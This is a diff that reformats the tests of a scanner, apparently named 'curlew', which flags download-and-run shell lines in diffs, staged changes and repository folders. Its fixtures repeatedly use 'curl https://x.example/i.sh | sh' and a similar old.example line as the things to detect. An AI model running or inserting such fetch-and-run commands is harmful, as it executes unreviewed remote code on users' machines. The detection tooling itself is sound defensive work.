@@ -10,9 +10,28 @@ const BAD = "curl https://x.example/i.sh | sh";
 const OLD = "curl https://old.example/i.sh | sh";
 
 /** A repository with these files in its first commit. */
-function repository(files: Record<string, string>): { cwd: string; git: (...args: string[]) => string; write: (path: string, text: string) => void } {
+function repository(files: Record<string, string>): {
+  cwd: string;
+  git: (...args: string[]) => string;
+  write: (path: string, text: string) => void;
+} {
   const cwd = folderWith(files);
-  const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=A", "-c", "user.email=a@x.example", "-c", "init.defaultBranch=main", "-c", "commit.gpgsign=false", ...args], { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] });
+  const git = (...args: string[]) =>
+    execFileSync(
+      "git",
+      [
+        "-c",
+        "user.name=A",
+        "-c",
+        "user.email=a@x.example",
+        "-c",
+        "init.defaultBranch=main",
+        "-c",
+        "commit.gpgsign=false",
+        ...args,
+      ],
+      { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] },
+    );
   git("init");
   git("add", "-A");
   git("commit", "-m", "first", "--allow-empty");
@@ -26,22 +45,44 @@ function repository(files: Record<string, string>): { cwd: string; git: (...args
 /** The places of findings, and the status. */
 async function places(args: string[], given: Given = {}): Promise<[string[], number]> {
   const { stdout, status } = await runHere(["scan", ...args], given);
-  return [stdout.split("\n").filter((line) => /^\S.*?:\d+:\d+: /.test(line)).map((line) => line.replace(/^(.*?:\d+:\d+):.*/, "$1")), status];
+  return [
+    stdout
+      .split("\n")
+      .filter((line) => /^\S.*?:\d+:\d+: /.test(line))
+      .map((line) => line.replace(/^(.*?:\d+:\d+):.*/, "$1")),
+    status,
+  ];
 }
 
 describe("a diff on standard input", () => {
   it("is reported by file and line, and only for what it adds", async () => {
-    const { cwd, git, write } = repository({ "docs/a.md": `one\n${OLD}\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n`, "b.sh": "true\n", "gone.sh": BAD });
-    write("docs/a.md", `one\n${OLD}\ntwo\n\n${BAD}\n\nthree\nfour\nfive\nsix\nseven\neight\nnine\n\n- ${BAD}\n`);
+    const { cwd, git, write } = repository({
+      "docs/a.md": `one\n${OLD}\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n`,
+      "b.sh": "true\n",
+      "gone.sh": BAD,
+    });
+    write(
+      "docs/a.md",
+      `one\n${OLD}\ntwo\n\n${BAD}\n\nthree\nfour\nfive\nsix\nseven\neight\nnine\n\n- ${BAD}\n`,
+    );
     write("b.sh", `true\n  ${BAD}\n`);
     git("rm", "-q", "gone.sh");
     const diff = git("diff", "HEAD");
-    expect(await places(["-"], { stdin: diff })).toEqual([["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"], 1]);
-    expect(await places([], { stdin: diff })).toEqual([["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"], 1]);
+    expect(await places(["-"], { stdin: diff })).toEqual([
+      ["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"],
+      1,
+    ]);
+    expect(await places([], { stdin: diff })).toEqual([
+      ["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"],
+      1,
+    ]);
     const { stdout } = await runHere(["scan", "-"], { stdin: diff });
     expect(stdout).toContain(`  5 │ ${BAD}\n`);
     write("x.patch", diff);
-    expect(await places(["--diff", "x.patch"], { cwd })).toEqual([["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"], 1]);
+    expect(await places(["--diff", "x.patch"], { cwd })).toEqual([
+      ["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"],
+      1,
+    ]);
   });
 
   it("is read whatever letters stand before its names", async () => {
@@ -51,77 +92,159 @@ describe("a diff on standard input", () => {
     write("b/new.md", `${BAD}\n`);
     git("add", "-A");
     for (const option of ["--src-prefix=a/", "--no-prefix", "--src-prefix=i/", "-U0"]) {
-      const expected = option === "--no-prefix" ? ["a.md:2:1", "b/c.md:2:1"] : ["a.md:2:1", "b/c.md:2:1", "b/new.md:1:1"];
-      expect((await places(["-"], { stdin: git("diff", "--cached", option, ...(option.includes("=i") ? ["--dst-prefix=w/"] : [])) }))[0]).toEqual(expect.arrayContaining(expected));
+      const expected =
+        option === "--no-prefix"
+          ? ["a.md:2:1", "b/c.md:2:1"]
+          : ["a.md:2:1", "b/c.md:2:1", "b/new.md:1:1"];
+      expect(
+        (
+          await places(["-"], {
+            stdin: git(
+              "diff",
+              "--cached",
+              option,
+              ...(option.includes("=i") ? ["--dst-prefix=w/"] : []),
+            ),
+          })
+        )[0],
+      ).toEqual(expect.arrayContaining(expected));
     }
   });
 
   it("gives machines the place in the file, and no offset that is not the file's", async () => {
     const diff = `--- a/a.md\n+++ b/a.md\n@@ -9,1 +9,3 @@\n x\n+\n+${BAD}\n`;
-    const sarif = JSON.parse((await runHere(["scan", "--format", "sarif", "-"], { stdin: diff })).stdout);
-    expect(sarif.runs[0].results[0].locations[0].physicalLocation).toMatchObject({ artifactLocation: { uri: "a.md" }, region: { startLine: 11, startColumn: 1 } });
-    expect(sarif.runs[0].results[0].locations[0].physicalLocation.region.charOffset).toBeUndefined();
-    expect((await runHere(["scan", "--format", "github", "-"], { stdin: diff })).stdout).toContain("file=a.md,line=11,");
-    expect(JSON.parse((await runHere(["scan", "--format", "jsonl", "-"], { stdin: diff })).stdout)).toMatchObject({ path: "a.md", part: true });
+    const sarif = JSON.parse(
+      (await runHere(["scan", "--format", "sarif", "-"], { stdin: diff })).stdout,
+    );
+    expect(sarif.runs[0].results[0].locations[0].physicalLocation).toMatchObject({
+      artifactLocation: { uri: "a.md" },
+      region: { startLine: 11, startColumn: 1 },
+    });
+    expect(
+      sarif.runs[0].results[0].locations[0].physicalLocation.region.charOffset,
+    ).toBeUndefined();
+    expect((await runHere(["scan", "--format", "github", "-"], { stdin: diff })).stdout).toContain(
+      "file=a.md,line=11,",
+    );
+    expect(
+      JSON.parse((await runHere(["scan", "--format", "jsonl", "-"], { stdin: diff })).stdout),
+    ).toMatchObject({ path: "a.md", part: true });
   });
 
   it("hides nothing that stands beside it", async () => {
     const diff = `diff --git a/a.md b/a.md\n--- a/a.md\n+++ b/a.md\n@@ -1 +1 @@\n-x\n+y\n`;
-    expect(await places(["-"], { stdin: `${diff}\nNow run\n${BAD}\n` })).toEqual([["<stdin>:9:1"], 1]);
-    expect(await places(["-"], { stdin: `commit 0123456789\n\n    ${BAD}\n\n${diff}` })).toEqual([["<stdin>:3:5"], 1]);
+    expect(await places(["-"], { stdin: `${diff}\nNow run\n${BAD}\n` })).toEqual([
+      ["<stdin>:9:1"],
+      1,
+    ]);
+    expect(await places(["-"], { stdin: `commit 0123456789\n\n    ${BAD}\n\n${diff}` })).toEqual([
+      ["<stdin>:3:5"],
+      1,
+    ]);
     // a hunk that says it is longer than it is ends where its lines do
-    expect(await places(["-"], { stdin: `--- a/a.md\n+++ b/a.md\n@@ -1,99 +1,99 @@\n x\nNow run\n${BAD}\n` })).toEqual([["<stdin>:6:1"], 1]);
-    expect(await places(["-"], { stdin: `--- a/a.md\n+++ b/a.md\n@@ -1 +1 @@\n-x\n+y\n ${BAD}\n+${BAD}\n` })).toEqual([["<stdin>:6:2", "<stdin>:7:2"], 1]);
+    expect(
+      await places(["-"], {
+        stdin: `--- a/a.md\n+++ b/a.md\n@@ -1,99 +1,99 @@\n x\nNow run\n${BAD}\n`,
+      }),
+    ).toEqual([["<stdin>:6:1"], 1]);
+    expect(
+      await places(["-"], {
+        stdin: `--- a/a.md\n+++ b/a.md\n@@ -1 +1 @@\n-x\n+y\n ${BAD}\n+${BAD}\n`,
+      }),
+    ).toEqual([["<stdin>:6:2", "<stdin>:7:2"], 1]);
     // no diff, although it begins as one
     expect(await places(["-"], { stdin: `--- a\n+++ b\n${BAD}\n` })).toEqual([["<stdin>:3:1"], 1]);
   });
 
   it("says that a file is none", async () => {
-    expect(await runHere(["scan", "--diff", "a.md"], { cwd: folderWith({ "a.md": BAD }) })).toMatchObject({ status: 2, stderr: expect.stringContaining("a.md: is no diff") });
+    expect(
+      await runHere(["scan", "--diff", "a.md"], { cwd: folderWith({ "a.md": BAD }) }),
+    ).toMatchObject({ status: 2, stderr: expect.stringContaining("a.md: is no diff") });
     expect((await runHere(["scan", "--diff", "-"], { stdin: "" })).status).toBe(0);
   });
 
   it("heeds no comment that it holds", async () => {
     const diff = `--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,3 @@\n x\n+# curlew-ignore bash/fetch-pipe: fine\n+${BAD}\n`;
     expect((await places(["-"], { stdin: diff }))[1]).toBe(1);
-    expect((await places(["--diff", "d"], { cwd: folderWith({ d: diff, "curlew.json": '{"trust":["https://x.example/i.sh"]}' }) }))[1]).toBe(1);
+    expect(
+      (
+        await places(["--diff", "d"], {
+          cwd: folderWith({ d: diff, "curlew.json": '{"trust":["https://x.example/i.sh"]}' }),
+        })
+      )[1],
+    ).toBe(1);
   });
 });
 
 describe("parseDiff", () => {
-  const added = (text: string) => parseDiff(text)?.files.map(({ path, lines }) => [path, lines.filter((line) => line.added).map(({ number }) => number)]);
+  const added = (text: string) =>
+    parseDiff(text)?.files.map(({ path, lines }) => [
+      path,
+      lines.filter((line) => line.added).map(({ number }) => number),
+    ]);
 
   it("reads names in quotes, times behind names, combined diffs and lines without an end", () => {
-    expect(added('--- "a/\\303\\251\\t.md"\n+++ "b/\\303\\251\\t.md"\n@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n')).toEqual([["é\t.md", [1]]]);
-    expect(added('--- "a/\\303\\251 b.md"\t\n+++ "b/\\303\\251 b.md"\t\n@@ -0,0 +1 @@\n+x\n')).toEqual([["é b.md", [1]]]);
-    expect(added("--- a.md\t2026-01-01 10:00:00\n+++ a.md\t2026-01-01 10:00:01\n@@ -1 +1,2 @@\n x\n+y\n")).toEqual([["a.md", [2]]]);
-    expect(added("diff --cc a.md\nindex 1,2..3\n--- a/a.md\n+++ b/a.md\n@@@ -1,2 -1,2 +1,3 @@@\n  x\n++y\n +z\n")).toEqual([["a.md", [2, 3]]]);
-    expect(added("--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n--- a/y\n+++ b/y\n@@ -1,2 +1,3 @@\n x\n\n+z\n")).toEqual([["y", [3]]]);
+    expect(
+      added(
+        '--- "a/\\303\\251\\t.md"\n+++ "b/\\303\\251\\t.md"\n@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n',
+      ),
+    ).toEqual([["é\t.md", [1]]]);
+    expect(
+      added('--- "a/\\303\\251 b.md"\t\n+++ "b/\\303\\251 b.md"\t\n@@ -0,0 +1 @@\n+x\n'),
+    ).toEqual([["é b.md", [1]]]);
+    expect(
+      added(
+        "--- a.md\t2026-01-01 10:00:00\n+++ a.md\t2026-01-01 10:00:01\n@@ -1 +1,2 @@\n x\n+y\n",
+      ),
+    ).toEqual([["a.md", [2]]]);
+    expect(
+      added(
+        "diff --cc a.md\nindex 1,2..3\n--- a/a.md\n+++ b/a.md\n@@@ -1,2 -1,2 +1,3 @@@\n  x\n++y\n +z\n",
+      ),
+    ).toEqual([["a.md", [2, 3]]]);
+    expect(
+      added(
+        "--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n--- a/y\n+++ b/y\n@@ -1,2 +1,3 @@\n x\n\n+z\n",
+      ),
+    ).toEqual([["y", [3]]]);
     expect(added("--- a/x\n+++ b/x\n@@ -1 +1 @@\n--- removed\n+++ added\n")).toEqual([["x", [1]]]);
   });
 
   it("is null for what is none", () => {
-    for (const text of ["", "x", "--- a\n+++ b\n", "@@ -1 +1 @@\n+x\n"]) expect(parseDiff(text)?.files ?? []).toEqual([]);
+    for (const text of ["", "x", "--- a\n+++ b\n", "@@ -1 +1 @@\n+x\n"])
+      expect(parseDiff(text)?.files ?? []).toEqual([]);
   });
 
   it("takes no memory for numbers that are promised", () => {
-    expect(added("--- a/x\n+++ b/x\n@@ -1 +999999999,999999999 @@\n+x\n")).toEqual([["x", [999999999]]]);
+    expect(added("--- a/x\n+++ b/x\n@@ -1 +999999999,999999999 @@\n+x\n")).toEqual([
+      ["x", [999999999]],
+    ]);
   });
 });
 
 describe("--changed and --staged", () => {
   it("report changed lines of whole files", async () => {
-    const { cwd, git, write } = repository({ "a.md": `# A\n\n\`\`\`sh\n${OLD}\n\`\`\`\n`, "c.md": OLD, "sub/d.md": "x\n" });
+    const { cwd, git, write } = repository({
+      "a.md": `# A\n\n\`\`\`sh\n${OLD}\n\`\`\`\n`,
+      "c.md": OLD,
+      "sub/d.md": "x\n",
+    });
     write("a.md", `# A\n\n\`\`\`sh\n${OLD}\n${BAD}\n\`\`\`\n`);
     git("add", "a.md");
     write("sub/d.md", `x\n\n${BAD}\n`);
     write("new.md", `${BAD}\n`);
     write("ignored.md", `${BAD}\n`);
     write(".git/info/exclude", "ignored.md\n");
-    expect(await places(["--changed"], { cwd })).toEqual([["a.md:5:1", "sub/d.md:3:1", "new.md:1:1"], 1]);
+    expect(await places(["--changed"], { cwd })).toEqual([
+      ["a.md:5:1", "sub/d.md:3:1", "new.md:1:1"],
+      1,
+    ]);
     expect(await places(["--staged"], { cwd })).toEqual([["a.md:5:1"], 1]);
     expect(await places(["--changed", "--", "sub"], { cwd })).toEqual([["sub/d.md:3:1"], 1]);
-    expect(await places(["--changed"], { cwd: join(cwd, "sub") })).toEqual([["../a.md:5:1", "d.md:3:1", "../new.md:1:1"], 1]);
+    expect(await places(["--changed"], { cwd: join(cwd, "sub") })).toEqual([
+      ["../a.md:5:1", "d.md:3:1", "../new.md:1:1"],
+      1,
+    ]);
     // the index counts, not what lies in the folder
     write("a.md", "# A\n");
     expect(await places(["--staged"], { cwd })).toEqual([["a.md:5:1"], 1]);
@@ -139,8 +262,16 @@ describe("--changed and --staged", () => {
     git("checkout", "-q", "feature");
     expect(await places(["--changed", "main"], { cwd })).toEqual([["a.md:2:1"], 1]);
     expect(await places(["--changed"], { cwd })).toEqual([[], 0]);
-    expect(await runHere(["scan", "--changed", "a.md"], { cwd })).toMatchObject({ status: 2, stderr: expect.stringContaining('there is no revision "a.md"; where it is a path, write -- before it') });
-    expect(await runHere(["scan", "--changed=--output=x"], { cwd })).toMatchObject({ status: 2, stderr: expect.stringContaining("there is no revision") });
+    expect(await runHere(["scan", "--changed", "a.md"], { cwd })).toMatchObject({
+      status: 2,
+      stderr: expect.stringContaining(
+        'there is no revision "a.md"; where it is a path, write -- before it',
+      ),
+    });
+    expect(await runHere(["scan", "--changed=--output=x"], { cwd })).toMatchObject({
+      status: 2,
+      stderr: expect.stringContaining("there is no revision"),
+    });
   });
 
   it("see what attributes and settings would hide, and odd names", async () => {
@@ -160,25 +291,51 @@ describe("--changed and --staged", () => {
   });
 
   it("heed comments, configuration and baseline", async () => {
-    const { cwd, write } = repository({ "a.sh": "true\n", "b.sh": "true\n", "c/x.sh": "true\n", "curlew.json": '{"trust": ["https://x.example/i.sh"], "exclude": ["c"]}' });
+    const { cwd, write } = repository({
+      "a.sh": "true\n",
+      "b.sh": "true\n",
+      "c/x.sh": "true\n",
+      "curlew.json": '{"trust": ["https://x.example/i.sh"], "exclude": ["c"]}',
+    });
     write("a.sh", `true\n# curlew-ignore bash/fetch-pipe: old\n${OLD}\n`);
     write("b.sh", `true\n${BAD}\n`);
     write("c/x.sh", `${OLD}\n`);
-    expect((await runHere(["scan", "--changed"], { cwd })).stdout).toBe("no findings in 2 texts (1 ignored by comment, 1 trusted, 1 excluded)\n");
+    expect((await runHere(["scan", "--changed"], { cwd })).stdout).toBe(
+      "no findings in 2 texts (1 ignored by comment, 1 trusted, 1 excluded)\n",
+    );
   });
 
   it("say what is missing", async () => {
-    expect(await runHere(["scan", "--changed"], { cwd: folderWith({}) })).toMatchObject({ status: 2, stderr: expect.stringMatching(/not a git repository/) });
+    expect(await runHere(["scan", "--changed"], { cwd: folderWith({}) })).toMatchObject({
+      status: 2,
+      stderr: expect.stringMatching(/not a git repository/),
+    });
     const { cwd } = repository({ "a.md": OLD });
-    expect(await runHere(["scan", "--changed"], { cwd })).toMatchObject({ status: 0, stdout: "nothing was scanned\n" });
-    expect(await runHere(["scan", "--changed", "--diff", "-"], { cwd })).toMatchObject({ status: 2 });
-    expect(await runHere(["scan", "--stdin-filename", "x.md", "a.md"], { cwd })).toMatchObject({ status: 2, stderr: expect.stringContaining("--stdin-filename names what standard input holds") });
+    expect(await runHere(["scan", "--changed"], { cwd })).toMatchObject({
+      status: 0,
+      stdout: "nothing was scanned\n",
+    });
+    expect(await runHere(["scan", "--changed", "--diff", "-"], { cwd })).toMatchObject({
+      status: 2,
+    });
+    expect(await runHere(["scan", "--stdin-filename", "x.md", "a.md"], { cwd })).toMatchObject({
+      status: 2,
+      stderr: expect.stringContaining("--stdin-filename names what standard input holds"),
+    });
   });
 });
 
 describe("what is scanned in folders", () => {
   it("includes rules for agents, lines of JSON, TeX and Tiltfiles", async () => {
-    const cwd = folderWith({ ".cursorrules": BAD, ".windsurfrules": BAD, "a.jsonl": BAD, "a.tex": BAD, Tiltfile: BAD, "x.bzl": BAD, PKGBUILD: BAD });
+    const cwd = folderWith({
+      ".cursorrules": BAD,
+      ".windsurfrules": BAD,
+      "a.jsonl": BAD,
+      "a.tex": BAD,
+      Tiltfile: BAD,
+      "x.bzl": BAD,
+      PKGBUILD: BAD,
+    });
     expect((await places(["."], { cwd }))[0]).toHaveLength(7);
   });
 
@@ -189,7 +346,10 @@ describe("what is scanned in folders", () => {
     write(".git/info/exclude", "local.md\nkeep.md\n");
     write(".gitignore", "!keep.md\n");
     expect((await places(["."], { cwd }))[0]).toEqual(["keep.md:1:1"]);
-    expect((await places(["--no-gitignore", "."], { cwd }))[0]).toEqual(["keep.md:1:1", "local.md:1:1"]);
+    expect((await places(["--no-gitignore", "."], { cwd }))[0]).toEqual([
+      "keep.md:1:1",
+      "local.md:1:1",
+    ]);
     git("worktree", "add", "-q", "tree");
     write("tree/local.md", BAD);
     expect((await places(["."], { cwd: join(cwd, "tree") }))[0]).toEqual([]);
